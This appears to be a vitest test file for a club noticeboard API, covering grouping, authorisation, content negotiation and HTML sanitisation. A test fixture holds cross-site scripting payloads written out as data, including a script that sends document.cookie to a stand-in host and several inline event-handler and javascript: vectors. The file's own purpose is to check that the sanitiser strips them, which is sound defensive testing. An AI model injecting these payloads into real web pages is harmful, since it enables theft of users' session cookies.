import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import supertest from 'supertest';
import type { FastifyInstance } from 'fastify';
import { buildApp } from '../../app.js';
import { createTestContext, type TestContext } from '../../../test/helpers.js';
import { createMember } from '../../../test/factories.js';

let ctx: TestContext;
const bearer = (id: number) => `Bearer ${ctx.app.jwt.sign({ sub: String(id), tv: 0 })}`;
let manager: Awaited<ReturnType<typeof createMember>>;

const HOSTILE_HTML = [
  '<h3>HPC squad training</h3>',
  '<p>Sessions start <strong>Monday</strong>. <a href="https://example.com/hpc" target="_blank">Details</a></p>',
  '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
  '<img src="x" onerror="alert(document.cookie)">',
  '<a href="javascript:alert(1)">click me</a>',
  '<table><tr><td onclick="alert(2)">Mon</td><td>6:00 PM</td></tr></table>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><script>alert(3)</script></svg>',
  '<p style="background:url(javascript:alert(4))">styled</p>',
].join('');

beforeAll(async () => {
  ctx = await createTestContext();
  manager = await createMember(ctx.db, { isMan: true });
  const notice = await ctx.db.notice.create({
    data: { tab: 'HPC', sectionName: 'HPC Program', html: HOSTILE_HTML },
  });
  await ctx.db.noticeboardRow.createMany({
    data: [
      {
        sectionName: 'U14 Boys',
        firstname: 'Liam',
        surname: 'Zhou',
        gender: 'male',
        email: 'liam@example.com',
        competition: 'Saturday Juniors',
        comment: 'Needs a team',
      },
      {
        sectionName: 'U14 Boys',
        firstname: 'Noah',
        surname: 'Adams',
        gender: 'male',
        email: null,
        competition: 'Saturday Juniors',
        comment: null,
      },
      {
        sectionName: 'Open Women',
        firstname: 'Ava',
        surname: 'Brown',
        gender: 'female',
        email: 'ava@example.com',
        competition: 'Wednesday Women',
        comment: 'Point guard',
        noticeId: notice.id,
      },
    ],
  });
});
afterAll(() => ctx?.close());

describe('noticeboard API', () => {
  it('answers JSON to an API call: rows grouped by section name', async () => {
    const res = await ctx
      .api()
      .get('/member/noticeboard')
      .set('accept', 'application/json')
      .set('authorization', bearer(manager.id));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/application\/json/);
    expect(res.body.noticeboard).toEqual({
      'Open Women': [
        {
          firstname: 'Ava',
          surname: 'Brown',
          gender: 'female',
          email: 'ava@example.com',
          competition: 'Wednesday Women',
          comment: 'Point guard',
        },
      ],
      'U14 Boys': [
        {
          firstname: 'Noah',
          surname: 'Adams',
          gender: 'male',
          email: null,
          competition: 'Saturday Juniors',
          comment: null,
        },
        {
          firstname: 'Liam',
          surname: 'Zhou',
          gender: 'male',
          email: 'liam@example.com',
          competition: 'Saturday Juniors',
          comment: 'Needs a team',
        },
      ],
    });
    expect(Object.keys(res.body.noticeboard)).toEqual(['Open Women', 'U14 Boys']);
  });

  it('treats a request with an Authorization header as an API call whatever it accepts', async () => {
    const res = await ctx
      .api()
      .get('/member/noticeboard')
      .set('accept', '*/*')
      .set('authorization', bearer(manager.id));
    expect(res.status).toBe(200);
    expect(res.body.noticeboard['U14 Boys']).toHaveLength(2);
  });

  it('refuses members without is_man with 403, and asks for sign-in without a token', async () => {
    const member = await createMember(ctx.db, { isMan: false, isRef: true, isRoster: true });
    const forbidden = await ctx
      .api()
      .get('/member/noticeboard')
      .set('accept', 'application/json')
      .set('authorization', bearer(member.id));
    expect(forbidden.status).toBe(403);
    expect(forbidden.body).toEqual({ error: 'forbidden', message: expect.any(String) });
    const anonymous = await ctx.api().get('/member/noticeboard').set('accept', 'application/json');
    expect(anonymous.status).toBe(401);
    expect(anonymous.body.error).toBe('unauthenticated');
  });

  it('sanitises notice HTML so that no script can run in the reader browser', async () => {
    const res = await ctx
      .api()
      .get('/member/noticeboard')
      .set('accept', 'application/json')
      .set('authorization', bearer(manager.id));
    expect(res.status).toBe(200);
    expect(res.body.notices).toHaveLength(1);
    const { html, tab, section_name } = res.body.notices[0];
    expect({ tab, section_name }).toEqual({ tab: 'HPC', section_name: 'HPC Program' });
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/document\.cookie/);
    expect(html).not.toMatch(/\bon[a-z]+\s*=/i);
    expect(html).not.toMatch(/javascript:/i);
    expect(html).not.toMatch(/<iframe|<svg|style=/i);
    // Formatting survives.
    expect(html).toContain('<h3>HPC squad training</h3>');
    expect(html).toContain('<strong>Monday</strong>');
    expect(html).toContain('<td>Mon</td>');
    expect(html).toContain('href="https://example.com/hpc"');
    expect(html).toContain('rel="noopener noreferrer"');
  });
});

describe('noticeboard page', () => {
  let withWeb: FastifyInstance;
  let webDist: string;

  beforeAll(async () => {
    webDist = fs.mkdtempSync(path.join(os.tmpdir(), 'courtside-web-'));
    fs.writeFileSync(
      path.join(webDist, 'index.html'),
      '<!doctype html><title>Courtside</title><div id="root"></div>',
    );
    withWeb = await buildApp({
      env: ctx.env,
      databaseUrl: ctx.databaseUrl,
      jwtSecret: randomBytes(32).toString('hex'),
      webDist,
      logger: false,
    });
    await withWeb.ready();
  });
  afterAll(async () => {
    await withWeb?.close();
    fs.rmSync(webDist, { recursive: true, force: true });
  });

  it('serves the web app to a page load of /member/noticeboard', async () => {
    const res = await supertest(withWeb.server)
      .get('/member/noticeboard')
      .set('accept', 'text/html,application/xhtml+xml,*/*;q=0.8');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/text\/html/);
    expect(res.text).toContain('<div id="root"></div>');
    expect(res.text).not.toContain('noticeboard');
  });

  it('still answers JSON to an API call on the same path', async () => {
    const auth = `Bearer ${withWeb.jwt.sign({ sub: String(manager.id), tv: 0 })}`;
    const res = await supertest(withWeb.server)
      .get('/member/noticeboard')
      .set('accept', 'application/json')
      .set('authorization', auth);
    expect(res.status).toBe(200);
    expect(Object.keys(res.body.noticeboard)).toEqual(['Open Women', 'U14 Boys']);
  });

  it('never leaks the noticeboard to a page load without the web app built', async () => {
    const res = await ctx.api().get('/member/noticeboard').set('accept', 'text/html');
    expect(res.status).toBe(404);
    expect(res.body.error).toBe('not_found');
  });
});
